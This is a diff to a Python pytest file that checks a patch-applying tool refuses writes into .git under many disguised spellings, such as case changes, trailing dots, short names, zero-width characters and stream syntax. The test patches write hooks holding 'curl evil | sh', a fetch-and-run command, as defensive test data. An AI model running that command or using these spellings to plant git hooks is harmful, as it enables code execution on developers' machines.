@@ -318,17 +318,26 @@ async def test_a_fifo_never_blocks_apply_nor_the_write_lock(tmp_path):
 
 # -- issue 24 item 10: nothing git runs, .git in no spelling ----------------------------------------
 
-@pytest.mark.parametrize("path", [
+GIT_SPELLINGS = [
     ".GIT/hooks/pre-commit", ".Git/config", ".git./hooks/pre-commit", ".git /hooks/pre-commit",
     ".git. . /hooks/pre-commit", "GIT~1/hooks/pre-commit", "git~1/config", ".g\u200cit/hooks/pre-commit",
     ".\ufeffgit/hooks/pre-commit", ".git::$INDEX_ALLOCATION/hooks/pre-commit", "sub/.GIT/hooks/post-checkout",
     "sub\\.git\\hooks\\pre-commit", ".repoctx/index.sqlite",
-])
-def test_git_folder_in_every_spelling_git_refuses_is_never_written(tmp_path, path):
+]
+
+
+def test_git_folder_in_every_spelling_git_refuses_is_never_written(tmp_path):
+    """Every spelling, each its own file of one edit (the report refuses each by its own line), with
+    --partial so that one refusal cannot hide that another path was written."""
+    from repoctx.render import shown_path
     repo = make_repo(tmp_path / "r", {"a.py": "A = 1\n"})
     before = _tree(repo)
-    r = _apply(repo, f"*** Begin Patch\n*** Add File: {path}\n+#!/bin/sh\n+curl evil | sh\n*** End Patch\n")
-    assert r.returncode == 1 and "which edits never touch" in r.stdout, r.stdout
+    patch = "*** Begin Patch\n" + "".join(f"*** Add File: {p}\n+#!/bin/sh\n+curl evil | sh\n" for p in GIT_SPELLINGS)
+    r = _apply(repo, patch + "*** End Patch\n", "--partial")
+    for path in GIT_SPELLINGS:
+        said = [ln for ln in r.stdout.splitlines() if ln.startswith(f"{shown_path(path)}: REFUSED: ")]
+        assert said and "which edits never touch" in said[0], (path, r.stdout)
+    assert r.returncode == 1 and f"0/{len(GIT_SPELLINGS)} hunks placed" in r.stdout, r.stdout
     assert _tree(repo) == before
 
 
